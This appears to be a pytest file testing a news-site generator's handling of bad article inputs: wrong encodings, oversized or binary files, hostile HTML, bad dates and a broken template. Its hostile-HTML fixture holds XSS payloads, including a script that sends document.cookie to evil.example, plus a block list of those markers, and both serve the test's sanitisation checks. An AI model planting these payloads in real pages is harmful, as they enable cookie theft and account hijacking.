"""Issue 6, bad articles: wrong encodings, binary and huge files, hostile HTML, missing or
future publication dates, a broken template. Through the real CLI; exit code, the file
(and line) in the message, and nothing on disk changed or lost.

Ingest's own refusals of single inputs are tested in test_ingest_cli.py; here: the same
files copied by hand into content/articles (check/extract must name them), a mixed
ingest batch that must not touch what is already there, and the path to the site."""
from __future__ import annotations

import re
import time

import pytest

from errcase import (cli, GOOD_EVENT, STAR_RAW, article_md, make_project, no_traceback,
                     output, real_text, run, star_project, tree_state)

STAR_EVENT = {"announced.yaml": GOOD_EVENT.replace("{id}", "announced")}


def star_body() -> str:
    return real_text(STAR_RAW)


@pytest.mark.parametrize("name,encode,where,says", [
    ("utf16-bom.md", lambda t: t.encode("utf-16"), "1:1", "utf-16-le text, not UTF-8"),
    ("utf16-no-bom.md", lambda t: t.encode("utf-16-le"), "1:1", "utf-16-le text, not UTF-8"),
    ("cp1252.md", lambda t: t.replace("Kim Jong-un", "Kim Jong‑un — café").encode("cp1252",
                                                                                  "replace"),
     "13:126", "cp1252 text, not UTF-8"),
    ("binary.md", lambda t: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "1:1",
     "binary file (a PNG image)"),
])
def test_article_in_wrong_encoding_or_binary_is_named(tmp_path, name, encode, where, says):
    project = star_project(tmp_path, STAR_EVENT)
    (project / "content" / "articles" / name).write_bytes(
        encode(article_md(star_body(), title="Summit breaks down")))
    before = tree_state(project)
    proc = cli(project, "check")
    no_traceback(proc)
    assert proc.returncode == 1
    assert f"content/articles/{name}:{where}" in proc.stdout
    assert says in proc.stdout
    assert tree_state(project) == before
    extract = cli(project, "extract")
    no_traceback(extract)
    assert extract.returncode == 1
    assert f"content/articles/{name}:" in output(extract)
    assert (project / "content" / "articles" / name).read_bytes() == encode(
        article_md(star_body(), title="Summit breaks down")), "the bad file must not be touched"


def test_article_with_utf8_bom_is_read(tmp_path):
    project = star_project(tmp_path, STAR_EVENT)
    path = project / "content" / "articles" / "star.md"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    proc = cli(project, "check")
    assert proc.returncode == 0, proc.stdout
    assert "0 error(s), 0 warning(s)" in proc.stdout


def test_50_mb_article_in_content_is_refused_without_reading_it(tmp_path):
    project = star_project(tmp_path, STAR_EVENT)
    with open(project / "content" / "articles" / "huge.md", "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    before = tree_state(project)
    proc = cli(project, "check")
    no_traceback(proc)
    assert proc.returncode == 1
    assert ("content/articles/huge.md:1:1: 50.0 MB is too large for one article (limit 10 MB)"
            in proc.stdout)
    assert tree_state(project) == before


def test_ingest_batch_of_bad_inputs_keeps_what_is_there(tmp_path):
    project = star_project(tmp_path, STAR_EVENT)
    raw = tmp_path / "raw"
    raw.mkdir()
    text = star_body().replace("Trump-Kim summit breaks down", "Summit talks: the day after", 1)
    (raw / "utf16.txt").write_bytes(text.encode("utf-16"))
    (raw / "cp1252.txt").write_bytes(text.replace("Hanoi", "Hanoï").encode("cp1252"))
    (raw / "scan.txt").write_bytes(b"\x00\x01\x02" * 5000)
    with open(raw / "huge.txt", "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    before = tree_state(project / "content")
    proc = run(project, "ingest", raw / "scan.txt", raw / "huge.txt", raw / "utf16.txt",
               raw / "cp1252.txt")
    no_traceback(proc)
    assert proc.returncode == 1, output(proc)
    out = output(proc)
    assert f"{raw / 'scan.txt'}: binary file" in out
    assert f"{raw / 'huge.txt'}: 50.0 MB is too large" in out
    after = tree_state(project / "content")
    assert {k: v for k, v in after.items() if k in before} == before, "existing files changed"
    for rel in set(after) - set(before):
        data = (project / "content" / rel).read_bytes()
        data.decode("utf-8")           # whatever was written is UTF-8
    assert cli(project, "check").returncode == 0


HOSTILE = """<!doctype html>
<html><head><title>Summit ends without a deal</title>
<meta property="article:published_time" content="2019-02-28T16:00:00+07:00">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body><article><h1>Summit ends without a deal</h1>
<p>HANOI (Reuters): The summit between the two leaders ended on Thursday without an agreement,
officials said.<script>alert('xss')</script></p>
<p onclick="alert(2)">The leaders had planned to sign a joint agreement at 2pm
<img src=x onerror="alert(3)"> but left the venue early.</p>
<p>Read <a href="javascript:alert(4)">more</a> about the talks held on Feb 27 in Hanoi.</p>
<iframe src="https://evil.example/frame"></iframe>
</article></body></html>
"""


def test_html_with_scripts_never_reaches_the_article_or_the_site(tmp_path):
    project = make_project(tmp_path / "p")
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE, encoding="utf-8")
    proc = run(project, "ingest", page)
    no_traceback(proc)
    assert proc.returncode == 0, output(proc)
    [article] = (project / "content" / "articles").glob("*.md")
    stored = article.read_text(encoding="utf-8")
    assert "ended on Thursday without an agreement" in stored
    for bad in ("<script", "alert(", "onerror", "onclick", "javascript:", "<iframe", "evil.example"):
        assert bad not in stored, bad
    assert run(project, "extract").returncode == 0
    build = run(project, "build")
    assert build.returncode == 0, output(build)
    pages = list((project / "site").rglob("*.html"))
    assert pages
    for path in pages:
        html = path.read_text(encoding="utf-8")
        for bad in ("alert(", "onerror=", "onclick=", "javascript:", "<iframe", "evil.example"):
            assert bad not in html, f"{bad} in {path}"
        # only the theme's own external scripts, never inline ones
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path


def test_article_without_publication_date_is_skipped_by_extract(tmp_path):
    body = star_body()
    project = make_project(tmp_path, articles={"star.md": article_md(body, published=None)})
    proc = cli(project, "extract")
    no_traceback(proc)
    assert proc.returncode == 0, output(proc)
    out = output(proc)
    assert "content/articles/star.md" in out and "published" in out and "skipped" in out
    assert not list((project / "content" / "events").glob("*.yaml"))
    check = cli(project, "check")
    assert check.returncode == 0
    assert "content/articles/star.md:2:1: warning: no publication date" in check.stdout


def test_article_published_in_the_future(tmp_path):
    future = time.strftime("%Y", time.gmtime(time.time() + 3 * 365 * 86400))
    project = star_project(tmp_path, STAR_EVENT, published=f'"{future}-02-28T12:00:00+08:00"')
    before = tree_state(project)
    proc = cli(project, "check")
    no_traceback(proc)
    assert proc.returncode == 1
    assert (f"content/articles/star.md:5:12: published {future}-02-28T12:00:00+08:00 is in the "
            "future") in proc.stdout
    assert tree_state(project) == before


def test_template_error_names_template_and_line(tmp_path):
    project = star_project(tmp_path, STAR_EVENT)
    assert run(project, "build").returncode == 0
    (project / "templates").mkdir()
    (project / "templates" / "event.html").write_text(
        '{% extends "base.html" %}\n{% block content %}\n<h1>{{ event.title }</h1>\n'
        "{% endblock %}\n", encoding="utf-8")
    before = tree_state(project)
    proc = run(project, "build")
    no_traceback(proc)
    assert proc.returncode == 1
    assert re.search(r"templates/event\.html:3\b", proc.stderr), proc.stderr
    assert tree_state(project) == before, "a failed build must leave the old site as it was"
